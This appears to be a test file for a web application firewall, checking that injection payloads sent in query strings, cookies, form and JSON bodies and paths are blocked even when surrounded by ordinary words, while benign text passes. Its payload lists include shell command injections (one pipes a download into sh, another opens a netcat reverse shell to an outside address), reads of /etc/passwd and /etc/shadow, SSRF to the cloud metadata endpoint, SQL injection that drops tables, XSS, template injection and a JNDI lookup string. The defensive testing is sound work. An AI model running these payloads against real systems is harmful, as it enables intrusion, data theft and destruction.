import { expect, test } from 'vitest';
import { compilePolicy, inspect } from '../inspect/index.ts';
import type { InspectedRequest } from '../parse/index.ts';
import { choices, encodeLatin1, post, query, request } from '../testing/requests.ts';

/*
 * What sets writing apart costs an attacker nothing: two words, a letter of another script, a comment. Where no text is
 * asked for, none of it may excuse an attack that goes on working with it.
 */

const policy = compilePolicy({ securityLevel: 'medium', categories: choices('medium') });

/** Names of what an application opens, calls or runs. A cookie is given none to search with, whatever it is called. */
const named = [
  'host',
  'callback',
  'webhook',
  'endpoint',
  'dest',
  'redirect',
  'src',
  'branch',
  'cwd',
  'repo',
  'file',
];
const cookies = [...named, 'q', 's', 'search', 'query', 'term'];

const carriers: Readonly<Record<string, (text: string, name: string) => InspectedRequest>> = {
  query,
  cookie: (text, name) =>
    request({
      headers: [
        ['host', 'shop.example.com'],
        ['cookie', `${name}=${encodeLatin1(text)}`],
      ],
    }),
  form: (text, name) => post('application/x-www-form-urlencoded', `${name}=${encodeLatin1(text)}`),
  json: (text, name) => post('application/json', JSON.stringify({ target: { [name]: text } })),
  path: (text) => request({ target: `/files/${encodeLatin1(text)}` }),
};

const bytes = (text: string) => Buffer.from(text).toString('latin1');

/** Written before an attack or behind it, and no part of it to any interpreter. */
const words = ['aa bb', 'is what', 'see the manual', 'Love', 'how to use'];
const marks = ['éé', '日本語', '(aa)', '(aa bb)', '**', '[a](b)', '<p>', '<em>aa</em>', '<b>'];

const part = (name: string, text: string) =>
  `--q\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n--q--\r\n`;

interface Class {
  readonly attacks: readonly string[];
  readonly before: readonly string[];
  readonly behind: readonly string[];
  /** of the carriers, those that name nothing of the kind */
  readonly beside?: readonly string[];
  /** of the names, those that ask for it; otherwise all */
  readonly names?: readonly string[];
}

const inFront = [...words.map((one) => `${one} `), ...marks, ...marks.map((one) => `${one} `)];
const after = [...words.map((one) => ` ${one}`), ...marks, ...marks.map((one) => ` ${one}`), '.', '?'];

const classes: Readonly<Record<string, Class>> = {
  'commands behind a sign': {
    attacks: [
      ';uname -a;',
      '|cat /etc/passwd;',
      '&&whoami;',
      ';/bin/id;',
      ';curl http://203.0.113.9/x|sh;',
      ';nc -e /bin/sh 203.0.113.9 1;',
      '$(id)',
      '`id`',
      '`/bin/id`',
      '$(/bin/id)',
      '`cat /etc/passwd`',
      '\nuname -a\n',
      ';cat /e??/passwd;',
      ';if true;then id;fi;',
      ';x=id;$x;',
      ';set id;$1;',
      ';time (/bin/id);',
    ],
    before: [
      '',
      ...words.map((one) => `${one} `),
      'éé',
      'éé ',
      '日本語',
      '**',
      '«',
      '"aa" ',
      "'aa' ",
      '# ',
      'aa: ',
    ],
    behind: [
      '',
      ...words.map((one) => ` ${one}`),
      ' éé',
      ' 日本語',
      ' **',
      ' # aa bb',
      ' "aa"',
      ' "aa bb"',
      '.',
    ],
  },
  'commands and files that words may follow': {
    attacks: [
      '`/bin/id`',
      '/etc/passwd',
      '../../../../etc/passwd',
      '/etc/shadow',
      '/etc/hosts',
      '/proc/self/environ',
      'C:/Windows/system32/drivers/etc/hosts',
      'http://127.0.0.1:6379',
      'http://localhost:9200',
      'http://10.0.0.1',
      'http://169.254.169.254/latest/meta-data/',
    ],
    before: ['', ' '],
    behind: ['', ...words.map((one) => ` ${one}`), ' (aa bb)', ' éé', ' 日本語', ' - aa bb', ', aa bb'],
  },
  'commands that show a file': {
    attacks: ['cat /etc/passwd', 'head -n 5 /etc/shadow', 'tac /etc//passwd', 'ls -la /etc/ssh'],
    before: ['', ' '],
    behind: ['', ' '],
  },
  'bare names of commands behind words': {
    attacks: [';id;', '|id;', ';id', ';id #', ';whoami;', '|w', '\nid\n', '\nid'],
    before: words.filter((one) => one.includes(' ')),
    behind: ['', ' '],
  },
  'addresses behind words': {
    attacks: ['http://127.0.0.1', 'http://localhost:9200/', 'http://10.0.0.1/x', 'https://192.168.0.1/'],
    before: words.map((one) => `${one} `),
    behind: ['', ' aa', '/a b'],
    beside: ['path'],
    names: ['host', 'callback', 'webhook', 'endpoint', 'src'],
  },
  'conditions behind a quote': {
    attacks: [
      "' or 1=1-- ",
      "' or 'a'='a'-- ",
      "' union select password from users-- ",
      "' and sleep(5)-- ",
      "'; drop table users-- ",
      "'||(select 1)||'",
      "' or 1=1#",
      "') or (1=1)-- ",
    ],
    before: [
      '',
      'x',
      ...words,
      ...words.map((one) => `${one} `),
      'éé',
      '日本語',
      '(aa) ',
      '(aa bb) ',
      '/*aa bb*/',
      '/*=>*/',
      '**',
      'Love',
      'd',
      'aa; ',
      'aa, ',
    ],
    behind: [''],
  },
  'conditions that are names alone': {
    attacks: ["' or id-- ", "' or id -- "],
    before: ['x', 'Love', ...words, 'd', 'éé'],
    behind: [''],
  },
  'conditions behind a number': {
    attacks: [
      '1 or 1=1',
      '1 and sleep(5)',
      '1 union select password from users',
      '1; drop table users',
      'if(1=1,id,price)',
      'version()::int',
      '(select 1)::int',
    ],
    before: ['', ' ', '/*aa bb*/', '/*=>*/', '/*:*/', '/*aa bb cc dd*/', '/*1 (aa*/', '('],
    behind: ['', '/*aa bb*/', '/*1 (aa*/', ' and (1)', ' and 1', '/*=>*/'],
  },
  'conditions behind a number and before a comment': {
    attacks: ['1 or id=id-- ', '1)||1;#', '1 or id=id /*1 (aa*/-- ', '1 or md5 (id)-- '],
    before: ['', ' ', '/*aa bb*/', '/*=>*/', '/*aa bb cc dd*/', '/*1 (aa*/'],
    behind: [''],
  },
  'conditions of one name before a comment of words': {
    attacks: ['1 or id=id-- ', '1 or id=id--\t', '1 or name = name #', '1 or (id=id)-- '],
    before: ['', ' ', '/*aa bb*/'],
    behind: ['', ...words, 'aa, bb; cc', '1=2'],
  },
  markup: {
    attacks: [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '"><svg onload=alert(1)>',
      '<a href="javascript:alert(1)">x</a>',
      '<iframe src="javascript:alert(1)">',
      "';alert(1);//",
      '{{constructor.constructor("alert(1)")()}}',
    ],
    before: ['', ...inFront.filter((one) => !one.includes('"'))],
    behind: ['', ...after],
  },
  handlers: {
    attacks: [
      '" onfocus=alert(1) autofocus ',
      '" onfocus=true&&top["al"+"ert"](1) autofocus ',
      "' onmouseover=alert(1) ",
      '" autofocus onfocus=fetch(1) ',
    ],
    before: ['', 'x', 'aa bb', 'éé', '(aa)', 'Love'],
    behind: ['', 'aa bb', 'x="', 'éé'],
  },
  templates: {
    attacks: [
      '{{7*7}}',
      '{{ (7) * 7 }}',
      '${7*7}',
      '<%= 7*7 %>',
      "<%= system('id') %>",
      "{{''.__class__.__mro__[1]}}",
      '${jndi:ldap://x.example/a}',
      "<?php system('id');?>",
    ],
    before: ['', ...inFront],
    behind: ['', ...after],
  },
};

for (const [name, { attacks, before, behind, beside = [], names }] of Object.entries(classes)) {
  test.each(Object.entries(carriers).filter(([carrier]) => !beside.includes(carrier)))(
    `${name} are blocked in a %s, whatever is written around them`,
    (carrier, carry) => {
      const given = names ?? (carrier === 'cookie' ? cookies : named);
      const texts = attacks.flatMap((attack) =>
        before.flatMap((front) => behind.map((back) => front + attack + back)),
      );
      expect(texts.length).toBeGreaterThan(8);
      const passed = texts.filter((text, nth) => {
        const name = given[nth % given.length] as string;
        return inspect(policy, carry(bytes(text), name)).decision !== 'block';
      });
      expect(passed).toEqual([]);
    },
  );
}

test.each([
  ...['user_name', 'login', 'language', 'timezone', 'avatar', 'webhook', 'callback', 'template', 'include'],
  ...['backup', 'repository', 'module', 'image', 'src'],
])('words behind a file excuse nothing in the field %s of a body', (name) => {
  for (const attack of ['/etc/passwd foo bar', '/var/log/apache2/access.log foo bar']) {
    expect(inspect(policy, post('application/x-www-form-urlencoded', `${name}=${attack}`)).decision).toBe(
      'block',
    );
    expect(inspect(policy, post('multipart/form-data; boundary=q', part(name, attack))).decision).toBe(
      'block',
    );
  }
});

test('lists, and what people type and store, are none of these', () => {
  const texts = ['name;id;date', 'id|name|ls', 'last name; id; date', 'a&id=2', 'aa bb;cc;'];
  for (const text of texts)
    for (const [carrier, carry] of Object.entries(carriers))
      expect([carrier, text, inspect(policy, carry(text, 'host')).decision]).toEqual([carrier, text, 'pass']);
  const stored = {
    title: 'cat /etc/passwd',
    command: 'cat /etc/hosts',
    note: 'see http://127.0.0.1:3000 first',
  };
  expect(inspect(policy, post('application/json', JSON.stringify(stored))).decision).toBe('pass');
  expect(inspect(policy, query('see http://localhost:3000', 'q')).decision).toBe('pass');
});
